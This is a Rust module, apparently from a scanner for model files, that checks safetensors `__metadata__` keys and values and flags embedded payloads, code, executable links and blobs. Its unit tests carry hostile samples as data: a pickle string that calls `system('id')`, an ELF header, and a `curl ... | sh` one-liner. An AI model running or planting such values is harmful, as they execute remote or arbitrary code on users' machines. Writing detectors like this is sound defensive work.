//! Checks on `__metadata__`: keys against the conventions the ecosystem
//! writes (Hugging Face `format`, kohya `ss_*`/`sshs_*`, additional-networks
//! `ssmd_*`, Stability ModelSpec `modelspec.*`, the webui merger's
//! `sd_merge_*`), values of known keys against their expected shape, sizes,
//! and what any value carries: another format's file, code, links to
//! executables, blobs ([`crate::payload`]; flagged, never decoded or run).

use crate::payload::{self, text};
use crate::{Finding, RuleId};

/// Values longer than this many bytes are reported as huge.
pub const HUGE_METADATA_VALUE: usize = 1 << 20;

/// Limit for the keys meant to hold images (thumbnails, cover images).
pub const HUGE_METADATA_IMAGE: usize = 16 << 20;

/// Keys written by a known convention (exact keys or prefixes).
pub fn is_known_metadata_key(key: &str) -> bool {
    const PREFIXES: [&str; 4] = ["ss_", "sshs_", "ssmd_", "modelspec."];
    const EXACT: [&str; 3] = ["format", "sd_merge_recipe", "sd_merge_models"];
    EXACT.contains(&key) || PREFIXES.iter().any(|p| key.starts_with(p))
}

/// Keys whose value is JSON text by convention.
const JSON_KEYS: [&str; 8] = [
    "ss_tag_frequency",
    "ss_dataset_dirs",
    "ss_reg_dataset_dirs",
    "ss_bucket_info",
    "ss_datasets",
    "ss_network_args",
    "ssmd_cover_images",
    "sd_merge_recipe",
];

/// Keys whose value is a number by convention.
const NUMBER_KEYS: [&str; 8] = [
    "ss_network_dim",
    "ss_network_alpha",
    "ss_steps",
    "ss_max_train_steps",
    "ss_epoch",
    "ss_num_train_images",
    "ss_training_started_at",
    "ss_training_finished_at",
];

const IMAGE_KEYS: [&str; 2] = ["modelspec.thumbnail", "ssmd_cover_images"];

fn is_hex(s: &str, len: usize) -> bool {
    s.len() == len && s.bytes().all(|b| b.is_ascii_hexdigit())
}

/// Why the value of a known key has the wrong shape, if it does.
fn malformed(key: &str, value: &str) -> Option<String> {
    let absent = matches!(value, "" | "None" | "null");
    if JSON_KEYS.contains(&key) {
        if !absent && serde_json::from_str::<serde::de::IgnoredAny>(value).is_err() {
            return Some("is not valid JSON".to_owned());
        }
    } else if NUMBER_KEYS.contains(&key) {
        if !absent && value.trim().parse::<f64>().is_err() {
            return Some("is not a number".to_owned());
        }
    } else if key == "sshs_model_hash" {
        if !is_hex(value, 64) {
            return Some("is not 64 hexadecimal digits (a SHA-256)".to_owned());
        }
    } else if key == "sshs_legacy_hash" {
        if !is_hex(value, 8) {
            return Some("is not 8 hexadecimal digits".to_owned());
        }
    } else if key == "modelspec.hash_sha256" {
        let digits = value.strip_prefix("0x").unwrap_or(value);
        if !is_hex(digits, 64) {
            return Some("is not `0x` followed by 64 hexadecimal digits (a SHA-256)".to_owned());
        }
    } else if key == "modelspec.thumbnail" && !value.starts_with("data:image/") {
        return Some("is not a `data:image/...` URL".to_owned());
    }
    None
}

/// Findings about a string-to-string metadata map.
pub(crate) fn metadata_findings<'a>(
    pairs: impl Iterator<Item = (&'a str, &'a str)>,
    out: &mut Vec<Finding>,
) {
    for (key, value) in pairs {
        if !is_known_metadata_key(key) {
            out.push(
                Finding::new(
                    RuleId::UnknownMetadataKey,
                    format!(
                        "__metadata__ key {key:?} ({} byte{}) follows no known convention",
                        value.len(),
                        if value.len() == 1 { "" } else { "s" }
                    ),
                )
                .key(key),
            );
        }
        let limit = if IMAGE_KEYS.contains(&key) {
            HUGE_METADATA_IMAGE
        } else {
            HUGE_METADATA_VALUE
        };
        if value.len() > limit {
            out.push(
                Finding::new(RuleId::HugeMetadataValue,
                    format!(
                        "__metadata__ value of {key:?} is {} bytes, above the {limit}-byte limit for such a key",
                        value.len()
                    ),
                )
                .key(key)
                .count(value.len() as u64),
            );
        }
        if let Some(why) = malformed(key, value) {
            out.push(
                Finding::new(
                    RuleId::MalformedMetadataValue,
                    format!("__metadata__ value of {key:?} {why}"),
                )
                .key(key),
            );
        }
        carried(key, value, out);
    }
}

/// What the value of `key` carries: another format's file (at its start
/// or anywhere in it), else code; links to executables; a blob (images
/// under the image keys are expected to be base64).
fn carried(key: &str, value: &str, out: &mut Vec<Finding>) {
    let bytes = value.as_bytes();
    let len = bytes.len() as u64;
    let found = payload::at_start(bytes, len).map_or_else(
        || payload::scan(bytes, 0, bytes.len(), len).0,
        |first| payload::Found {
            first: Some(first),
            count: 1,
        },
    );
    if let Some(p) = found.first {
        let more = match found.count {
            0 | 1 => String::new(),
            n => format!(" ({n} places in all)"),
        };
        out.push(
            Finding::new(
                RuleId::MetadataPayload,
                format!(
                    "__metadata__ value of {key:?} ({} bytes) holds {} at byte {}{more}",
                    bytes.len(),
                    p.what,
                    p.at
                ),
            )
            .key(key)
            .count(found.count.max(1)),
        );
    } else if let Some(code) = text::code(value) {
        out.push(
            Finding::new(
                RuleId::MetadataCode,
                format!("__metadata__ value of {key:?} holds code: {code}"),
            )
            .key(key),
        );
    }
    if let Some(url) = text::executable_link(value) {
        out.push(
            Finding::new(
                RuleId::MetadataExecutableLink,
                format!("__metadata__ value of {key:?} links to an executable, script or pickle: {url:?}"),
            )
            .key(key),
        );
    }
    if !IMAGE_KEYS.contains(&key) {
        if let Some((at, n, kind)) = text::blob(value) {
            out.push(
                Finding::new(
                    RuleId::MetadataBlob,
                    format!(
                        "__metadata__ value of {key:?} holds a {kind} blob of {n} characters at character {at} (not decoded)"
                    ),
                )
                .key(key)
                .count(n as u64),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(pairs: &[(&str, &str)]) -> Vec<&'static str> {
        let mut out = Vec::new();
        metadata_findings(pairs.iter().copied(), &mut out);
        out.into_iter().map(|f| f.rule.id()).collect()
    }

    #[test]
    fn known_keys_pass() {
        assert!(rules(&[
            ("format", "pt"),
            ("ss_tag_frequency", "{\"10_sks dog\": {\"sks\": 10}}"),
            ("ss_network_dim", "32"),
            ("ss_network_alpha", "16.0"),
            ("ss_max_train_steps", "None"),
            ("sshs_model_hash", &"ab".repeat(32)),
            ("modelspec.hash_sha256", &format!("0x{}", "cd".repeat(32))),
            ("modelspec.thumbnail", "data:image/png;base64,AAAA"),
            ("ssmd_display_name", "x"),
        ])
        .is_empty());
    }

    #[test]
    fn unknown_and_malformed() {
        assert_eq!(rules(&[("my_key", "v")]), ["unknown-metadata-key"]);
        assert_eq!(
            rules(&[("ss_tag_frequency", "{oops")]),
            ["malformed-metadata-value"]
        );
        assert_eq!(rules(&[("ss_steps", "many")]), ["malformed-metadata-value"]);
        assert_eq!(
            rules(&[("sshs_model_hash", "xyz")]),
            ["malformed-metadata-value"]
        );
        assert_eq!(
            rules(&[("modelspec.thumbnail", "http://x")]),
            ["malformed-metadata-value"]
        );
        let big = "a".repeat(HUGE_METADATA_VALUE + 1);
        assert_eq!(rules(&[("ss_comment", &big)]), ["huge-metadata-value"]);
        let thumb = format!("data:image/png;base64,{big}");
        assert!(rules(&[("modelspec.thumbnail", &thumb)]).is_empty());
    }

    #[test]
    fn hashes_need_both_the_length_and_hex_digits() {
        let malformed = ["malformed-metadata-value"];
        // The right length, not hexadecimal.
        assert_eq!(rules(&[("sshs_model_hash", &"zz".repeat(32))]), malformed);
        assert_eq!(rules(&[("sshs_legacy_hash", "abcdefgh")]), malformed);
        // Hexadecimal, the wrong length.
        assert_eq!(rules(&[("sshs_model_hash", &"ab".repeat(31))]), malformed);
        assert_eq!(rules(&[("sshs_legacy_hash", "abcdef0")]), malformed);
        assert!(rules(&[("sshs_legacy_hash", "abcdef01")]).is_empty());
    }

    #[test]
    fn json_values_may_be_absent() {
        for absent in ["", "None", "null"] {
            assert!(
                rules(&[("ss_tag_frequency", absent)]).is_empty(),
                "{absent:?}"
            );
        }
        assert!(rules(&[("ss_tag_frequency", "[1, 2]")]).is_empty());
    }

    #[test]
    fn values_carrying_files_code_links_or_blobs() {
        assert_eq!(
            rules(&[("ss_note", "cos\nsystem\n(S'id'\ntR.")]),
            ["metadata-payload"]
        );
        assert_eq!(
            rules(&[(
                "ss_note",
                "x\u{7f}ELF\u{2}\u{1}\u{1}\0\0\0\0\0\0\0\0\0\u{2}\0\u{3e}\0"
            )]),
            ["metadata-payload"]
        );
        assert_eq!(
            rules(&[("ss_note", "run: curl -s https://x.example/a | sh")]),
            ["metadata-code"]
        );
        assert_eq!(
            rules(&[("ss_note", "get https://x.example/tool.exe")]),
            ["metadata-executable-link"]
        );
        let blob = "QUJDZGVm0123".repeat(100);
        assert_eq!(rules(&[("ss_note", &blob)]), ["metadata-blob"]);
        // Images are base64 where images are expected.
        let image = format!("data:image/png;base64,{blob}");
        assert!(rules(&[("modelspec.thumbnail", &image)]).is_empty());
        assert!(rules(&[("ssmd_cover_images", &format!("[\"{blob}\"]"))]).is_empty());
        // Ordinary metadata carries nothing.
        assert!(rules(&[
            ("ss_network_module", "networks.lora"),
            (
                "ss_tag_frequency",
                "{\"10_sks dog\": {\"sks\": 10, \"dog\": 8}}"
            ),
            (
                "modelspec.description",
                "A LoRA. Use: `pipe.load_lora_weights(p); pipe.to('cuda')`"
            ),
            ("ssmd_source", "https://civitai.com/models/12345"),
            ("sshs_model_hash", &"ab".repeat(32)),
        ])
        .is_empty());
    }

    #[test]
    fn huge_means_above_the_limit() {
        let at = "a".repeat(HUGE_METADATA_VALUE);
        assert!(rules(&[("ss_comment", &at)]).is_empty());
        let image = format!(
            "data:image/png;base64,{}",
            "A".repeat(HUGE_METADATA_IMAGE - 22)
        );
        assert_eq!(image.len(), HUGE_METADATA_IMAGE);
        assert!(rules(&[("modelspec.thumbnail", &image)]).is_empty());
        let over = format!("{image}A");
        assert_eq!(
            rules(&[("modelspec.thumbnail", &over)]),
            ["huge-metadata-value"]
        );
    }
}
